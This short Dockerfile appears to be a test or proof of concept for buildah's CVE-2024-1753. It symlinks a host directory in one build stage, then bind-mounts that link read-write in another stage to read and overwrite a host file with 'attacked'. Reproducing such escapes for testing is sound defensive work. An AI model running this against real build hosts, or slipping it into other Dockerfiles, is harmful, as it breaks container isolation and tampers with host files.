# The source of a bind mount is a link to a directory of the machine (buildah's CVE-2024-1753).
ARG BASE
FROM ${BASE} AS other
ARG HOST_DIRECTORY
RUN ln -s "$HOST_DIRECTORY" /led
FROM ${BASE}
RUN --mount=type=bind,from=other,source=/led,target=/bound,rw cat /bound/file && echo attacked > /bound/file
